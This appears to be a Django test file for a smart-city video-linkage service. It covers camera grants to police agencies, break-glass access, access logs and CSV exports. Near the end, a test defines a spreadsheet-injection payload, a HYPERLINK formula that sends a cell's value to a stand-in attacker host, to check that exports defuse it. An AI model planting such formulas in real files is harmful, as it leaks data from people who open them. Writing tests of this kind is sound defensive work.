"""Pages and commands of the linkage services: the centre grants, the agency
watches, extends, breaks glass; the log is listed, exported and reviewed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from smartcity.operations.models import Agency, Incident, VideoAccessEntry, VideoGrant
from smartcity.operations.selectors.intake import client_for_key
from smartcity.operations.services.video.grants import grant_video
from smartcity.operations.services.video.streams import open_stream, request_stream
from smartcity.operations.tests.factories import CameraFactory, IncidentFactory, api_key

pytestmark = pytest.mark.django_db

REASON = "센터 운영자 응답 없음, 용의자 도주 중"


def signed_in(user) -> Client:  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(user)
    return client


def test_the_incident_page_offers_the_scene_cameras_to_linked_agencies_and_grants(  # type: ignore[no-untyped-def]
    scene, police_agency, platform_operator
) -> None:
    client = signed_in(platform_operator)
    incident = scene["incident"]
    page = client.get(reverse("operations:incident", args=[incident.pk])).content.decode()
    assert "유관기관 영상 제공" in page and police_agency.name_ko in page
    for camera in scene["cameras"]:
        assert f'value="{camera.pk}"' in page
    assert f'value="{scene["far"].pk}"' not in page  # 2 km away, outside the 500 m scene
    chosen = [c.pk for c in scene["cameras"][:2]]
    response = client.post(
        reverse("operations:incident_grant", args=[incident.pk]),
        {"agency": police_agency.pk, "cameras": chosen},
        follow=True,
    )
    grant = VideoGrant.objects.get()
    assert sorted(grant.cameras.values_list("pk", flat=True)) == sorted(chosen)
    body = response.content.decode()
    assert f'data-grant-id="{grant.pk}"' in body and "제공 중" in body
    asked = client.post(reverse("operations:grant_revoke", args=[grant.pk]))
    assert asked.status_code == 200 and VideoGrant.objects.get().revoked_at is None
    client.post(reverse("operations:grant_revoke", args=[grant.pk]), {"confirmed": "yes"})
    assert VideoGrant.objects.get().revoked_at is not None


def test_another_centres_operator_cannot_grant_or_revoke(  # type: ignore[no-untyped-def]
    granted, scene, police_agency, operator_b
) -> None:
    client = signed_in(operator_b)
    url = reverse("operations:incident_grant", args=[scene["incident"].pk])
    assert client.post(url, {"agency": police_agency.pk}).status_code == 404
    assert client.post(reverse("operations:grant_revoke", args=[granted.pk])).status_code == 404
    assert VideoGrant.objects.get().revoked_at is None


def test_the_console_shows_the_cameras_a_countdown_and_the_warning_in_the_last_minute(  # type: ignore[no-untyped-def]
    clock, granted, scene, police_officer
) -> None:
    client = signed_in(police_officer)
    page = client.get(reverse("operations:agency_grant", args=[granted.pk])).content.decode()
    assert 'data-remaining="1200"' in page and 'data-warning-seconds="60"' in page
    for camera in scene["cameras"]:
        assert f'data-camera-id="{camera.pk}"' in page
    assert 'id="video-warning" class="video-warning" role="alert" hidden' in page
    clock.set(granted.expires_at - dt.timedelta(seconds=45))
    page = client.get(reverse("operations:agency_grant", args=[granted.pk])).content.decode()
    assert 'data-state="warning"' in page and 'role="alert" >' in page
    extended = client.post(
        reverse("operations:agency_extend", args=[granted.pk]), HTTP_ACCEPT="application/json"
    )
    assert extended.json() == {"remaining": 1200, "state": "active"}


def test_the_dispatch_page_shows_only_cameras_within_the_dispatch_radius(  # type: ignore[no-untyped-def]
    settings, granted, scene, police_officer
) -> None:
    settings.OPERATIONS_DISPATCH_RADIUS_M = 200
    page = (
        signed_in(police_officer)
        .get(reverse("operations:agency_dispatch", args=[granted.pk]))
        .content.decode()
    )
    shown = [c.pk for c in scene["cameras"] if f'data-camera-id="{c.pk}"' in page]
    assert shown == [scene["cameras"][0].pk, scene["cameras"][1].pk]  # 1 m and 111 m, not 333 m
    assert "반경 200m" in page and 'name="viewport"' in page


def test_the_dispatch_order_offers_cameras_within_the_dispatch_radius(  # type: ignore[no-untyped-def]
    settings, tenant_a, police_agency, platform_operator
) -> None:
    settings.OPERATIONS_DISPATCH_RADIUS_M = 200
    incident = IncidentFactory(tenant=tenant_a, event_type_id="112UC120", case_type="절도")
    near = CameraFactory(tenant=tenant_a, latitude=Decimal("37.50100000"))
    away = CameraFactory(tenant=tenant_a, latitude=Decimal("37.50300000"))
    page = (
        signed_in(platform_operator)
        .get(reverse("operations:incident", args=[incident.pk]))
        .content.decode()
    )
    assert f'value="{near.pk}"' in page and f'value="{away.pk}"' not in page


def test_break_glass_through_the_page_lands_on_the_console_and_is_flagged(  # type: ignore[no-untyped-def]
    scene, police_agency, police_officer, platform_operator
) -> None:
    client = signed_in(police_officer)
    url = reverse("operations:agency_break_glass")
    number = scene["incident"].external_id
    short = client.post(
        url, {"sender": "112", "external_id": number, "justification": "x", "crime_type": "robbery"}
    )
    assert short.status_code == 200 and not VideoGrant.objects.exists()
    response = client.post(
        url,
        {"sender": "112", "external_id": number, "justification": REASON, "crime_type": "robbery"},
    )
    grant = VideoGrant.objects.get()
    assert response.url == reverse("operations:agency_grant", args=[grant.pk])
    month = dt.datetime.now(dt.UTC).astimezone().strftime("%Y-%m")
    review = signed_in(platform_operator).get(reverse("operations:video_review"), {"month": month})
    assert review.status_code == 200
    assert "data-break-glass=" in review.content.decode()


def test_break_glass_page_names_the_sender_and_says_which_field_is_wrong(  # type: ignore[no-untyped-def]
    clock, scene, police_agency, police_officer, tenant_b
) -> None:
    robbery = scene["incident"]
    number = robbery.external_id
    fire = IncidentFactory(tenant=robbery.tenant, sender="119", event_type_id="119UC001",
                           external_id=number)  # fmt: skip
    assert fire.occurred_at >= robbery.occurred_at  # the later report with the same number
    client = signed_in(police_officer)
    url = reverse("operations:agency_break_glass")
    page = client.get(url).content.decode()
    assert '<option value="112" selected>' in page  # a police room's own numbers by default
    missing = client.post(url, {"sender": "112", "justification": REASON, "crime_type": "robbery"})
    assert missing.status_code == 200
    assert missing.context["form"].errors["external_id"] == [
        "발생 번호를 입력하거나 상황 번호를 입력하세요."
    ]
    unknown = client.post(
        url,
        {
            "sender": "112",
            "external_id": "NO-SUCH",
            "justification": REASON,
            "crime_type": "robbery",
        },
    )
    assert unknown.context["form"].errors["external_id"] == [
        "연계된 센터에 이 번호의 상황이 없습니다."
    ]
    police_agency.tenants.add(tenant_b)
    IncidentFactory(tenant=tenant_b, case_type="강도", external_id=number)
    both = client.post(
        url,
        {"sender": "112", "external_id": number, "justification": REASON, "crime_type": "robbery"},
    )
    assert "incident_id" in both.context["form"].errors
    assert not VideoGrant.objects.exists()
    response = client.post(
        url, {"incident_id": robbery.pk, "justification": REASON, "crime_type": "robbery"}
    )
    grant = VideoGrant.objects.get()
    assert grant.incident == robbery
    assert response.url == reverse("operations:agency_grant", args=[grant.pk])


@pytest.fixture
def november(clock):  # type: ignore[no-untyped-def]
    """The server clock on 2026-11-10 12:00 KST (before any grant is made)."""
    clock.set(dt.datetime(2026, 11, 10, 3, 0, tzinfo=dt.UTC))
    return clock


def test_the_log_page_csv_and_review_show_the_tenants_attempts_only(  # type: ignore[no-untyped-def]
    november, granted, scene, police_officer, platform_operator, operator_b
) -> None:
    officer = signed_in(police_officer)
    issued = officer.post(
        reverse("operations:stream_token", args=[granted.pk, scene["cameras"][0].pk])
    ).json()
    officer.get(issued["url"])
    officer.get(issued["url"])  # replay: refused
    operator = signed_in(platform_operator)
    page = operator.get(reverse("operations:video_log"), {"month": "2026-11"}).content.decode()
    # One session row for the camera; the replay is a decision of its own, in words.
    assert page.count("data-session-id=") == 1 and 'data-frames="1"' in page
    assert page.count("data-entry-id=") == 1 and 'data-granted="0"' in page
    assert "이미 사용한 영상 주소입니다." in page and "token_replayed" not in page
    assert operator_b_sees_nothing(operator_b)
    export = operator.get(reverse("operations:video_log_csv"), {"month": "2026-11"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert rows[0][:3] == ["id", "at", "tenant"] and len(rows) == 3
    assert [r[5] for r in rows[1:]] == ["open", "open"]
    assert [r[6] for r in rows[1:]] == ["1", "0"]
    review = operator.get(reverse("operations:video_review"), {"month": "2026-11"}).content
    assert b'data-figure="views">1<' in review and b'data-figure="refused">1<' in review
    refused_only = operator.get(
        reverse("operations:video_log"), {"month": "2026-11", "show": "refused"}
    ).content.decode()
    assert "data-session-id=" not in refused_only and refused_only.count("data-entry-id=") == 1
    october = operator.get(reverse("operations:video_log"), {"month": "2026-10"}).content
    assert b"data-entry-id=" not in october


def operator_b_sees_nothing(operator_b) -> bool:  # type: ignore[no-untyped-def]
    page = signed_in(operator_b).get(reverse("operations:video_log"), {"month": "2026-11"})
    return b"data-entry-id=" not in page.content and b"data-session-id=" not in page.content


def test_agency_pages_are_404_for_everyone_but_agency_officers(  # type: ignore[no-untyped-def]
    granted, platform_operator, ministry_officer, applicant_city_a
) -> None:
    for user in (platform_operator, ministry_officer, applicant_city_a):
        client = signed_in(user)
        assert client.get(reverse("operations:agency")).status_code == 404
        assert client.get(reverse("operations:agency_grant", args=[granted.pk])).status_code == 404
    assert signed_in(ministry_officer).get(reverse("operations:video_log")).status_code == 404


# The group writer's own connection must see the key (ADR 0023).
@pytest.mark.django_db(transaction=True)
def test_the_intake_api_carries_the_112_case_type(tenant_a) -> None:  # type: ignore[no-untyped-def]
    from smartcity.operations.tests.factories import report_body

    key = api_key(tenant_a, "112")
    assert client_for_key(key) is not None
    response = Client().post(
        "/api/operations/incidents",
        data=json.dumps(report_body(case_type="강도")),
        content_type="application/json",
        headers={"X-Api-Key": key, "Idempotency-Key": "k-1"},
    )
    assert response.status_code == 201
    incident = Incident.objects.get()
    assert incident.case_type == "강도"
    later = report_body(status="40", detail="용의자 인상착의 추가")  # no case type this time
    Client().post(
        "/api/operations/incidents", data=json.dumps(later), content_type="application/json",
        headers={"X-Api-Key": key, "Idempotency-Key": "k-2"},
    )  # fmt: skip
    assert Incident.objects.get().case_type == "강도"


def test_linkage_commands_register_certify_sweep_report_export_and_verify(  # type: ignore[no-untyped-def]
    clock, tenant_a, police_officer, platform_operator
) -> None:
    out = io.StringIO()
    call_command("linkage", "add-agency", "garam-112", "--kind", "police",
                 "--name", police_officer.organisation.name_ko, "--tenant", tenant_a.code,
                 stdout=out)  # fmt: skip
    call_command("linkage", "certify", police_officer.username, "--agency", "garam-112",
                 stdout=out)  # fmt: skip
    assert "certified until" in out.getvalue()
    incident = IncidentFactory(tenant=tenant_a, case_type="절도")
    camera = CameraFactory(tenant=tenant_a)
    grant = grant_video(tenant=tenant_a, incident_id=incident.pk,
                        agency_id=Agency.objects.get(code="garam-112").pk,
                        camera_ids=[camera.pk], actor=platform_operator)  # fmt: skip
    ticket = request_stream(officer=police_officer, grant_id=grant.pk, camera_id=camera.pk)
    open_stream(token=ticket.token, viewer=police_officer)
    clock.set(grant.expires_at)
    out = io.StringIO()
    call_command("linkage", "expire", stdout=out)  # closes the viewing session too
    assert json.loads(out.getvalue()) == {"ended": 1}
    month = clock.now.astimezone(dt.timezone(dt.timedelta(hours=9))).strftime("%Y-%m")
    out = io.StringIO()
    call_command("linkage", "report", "--month", month, "--format", "json", stdout=out)
    report = json.loads(out.getvalue())
    assert report["attempts"] == 1 and report["refused"] == 0
    out = io.StringIO()
    call_command("linkage", "export-log", "--month", month, "--tenant", tenant_a.code, stdout=out)
    assert len(out.getvalue().strip().splitlines()) == 3  # the session's open and close
    out = io.StringIO()
    call_command("linkage", "verify-log", stdout=out)
    assert "intact" in out.getvalue()
    assert list(VideoAccessEntry.objects.values_list("step", "frames")) == [
        ("open", None),
        ("close", 1),
    ]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"근거 보기") 용의자 도주 중, 센터 응답 없음'


def _no_live_formula(rows: list[list[str]]) -> bool:
    return not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r"} for row in rows for cell in row)


def test_a_formula_in_a_break_glass_justification_is_text_in_both_exports(  # type: ignore[no-untyped-def]
    november, scene, police_agency, police_officer, platform_operator, tenant_a
) -> None:
    response = signed_in(police_officer).post(
        reverse("operations:agency_break_glass"),
        {
            "sender": "112",
            "external_id": scene["incident"].external_id,
            "justification": FORMULA,
            "crime_type": "robbery",
        },
    )
    assert response.status_code == 302
    export = signed_in(platform_operator).get(
        reverse("operations:video_log_csv"), {"month": "2026-11"}
    )
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert _no_live_formula(rows)
    assert "'" + FORMULA in [r[15] for r in rows[1:]]
    out = io.StringIO()
    call_command("linkage", "export-log", "--month", "2026-11", "--tenant", tenant_a.code,
                 stdout=out)  # fmt: skip
    cli_rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert _no_live_formula(cli_rows) and "'" + FORMULA in [r[15] for r in cli_rows[1:]]
